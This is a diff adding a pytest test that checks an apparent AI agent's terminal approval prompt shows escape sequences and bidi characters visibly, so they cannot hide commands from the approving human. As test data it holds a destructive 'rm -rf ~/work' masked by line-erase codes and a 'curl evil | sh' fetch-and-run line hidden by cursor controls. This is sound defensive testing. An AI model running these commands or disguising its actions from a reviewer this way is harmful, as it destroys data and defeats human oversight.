@@ -108,3 +108,22 @@ def test_ctrl_c_while_asking_answers_no_and_propagates() -> None:
     with pytest.raises(KeyboardInterrupt):
         approver.answer(pending)
     assert pending.wait(None) is Decision.NO
+
+
+def test_escape_sequences_cannot_hide_what_is_approved() -> None:
+    """A command (or a written file's diff) holding terminal controls is shown with them made
+    visible: erasing the line, moving the cursor up or reordering the text cannot disguise it."""
+    console, out = plain_console()
+    _, read = keys("n", "n")
+    hidden = "rm -rf ~/work #\x1b[2K\x1b[1Gecho hello"
+    diff = "--- a/x\n+++ b/x\n+curl evil | sh\x1b[1A\x1b[2K\r\n+print('hi')\r\n+\u202eevil\u202c\n"
+    approver = TerminalApprover(console, read_key=read)
+    approver(ApprovalRequest("run_shell", f"run {hidden}", hidden))
+    approver(ApprovalRequest("write_file", "write x", diff))
+    text = out.getvalue()
+    assert "\x1b" not in text
+    assert "\u202e" not in text
+    assert "rm -rf ~/work #\\x1b[2K\\x1b[1Gecho hello" in text
+    assert "+curl evil | sh\\x1b[1A\\x1b[2K" in text
+    assert "+\\u202eevil\\u202c" in text
+    assert "\\x0d" not in text  # a CRLF line end is not noise
